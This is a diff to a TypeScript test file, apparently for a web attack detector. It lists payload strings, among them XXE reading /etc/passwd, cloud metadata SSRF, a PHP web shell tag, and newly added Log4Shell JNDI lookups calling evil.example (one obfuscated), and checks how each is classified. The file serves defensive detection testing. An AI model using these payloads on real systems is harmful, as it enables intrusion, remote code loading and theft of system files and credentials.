@@ -40,6 +40,9 @@ test.each<[payload: string, family: string]>([
   ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 'web-xxe-entity'],
   ['http://169.254.169.254/latest/meta-data/', 'web-ssrf-metadata'],
   ['http://localhost:8080/admin', 'web-ssrf-internal'],
+  ['ldap://10.0.0.3:389/dc=x', 'web-ssrf-internal'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+  ['${phpinfo()}', 'web-php-variable'],
   ['rO0ABXNyABdqYXZhLnV0aWw', 'web-java-serialised'],
   ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'web-php-object'],
   ['<?php system($_GET[0]); ?>', 'web-php-tag'],
@@ -115,6 +118,17 @@ test('every expression has a literal to wait for: none runs on every value', asy
     signature.patterns.filter((pattern) => requiredLiterals(pattern) === null),
   );
   expect(open).toEqual([]);
+});
+
+test.each([
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+  '${jndi:ldap://evil.example/a}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+  '${${lower:j}ndi:rmi://evil.example/a}',
+])('a JNDI look-up is no internal address and no PHP: %s', (payload) => {
+  const found = get(payload);
+  expect(found).toContain('web-java-log4shell');
+  expect(found.filter((id) => /^web-(?:ssrf|php)/.test(id))).toEqual([]);
 });
 
 test.each<[name: string, request: string, id: string]>([
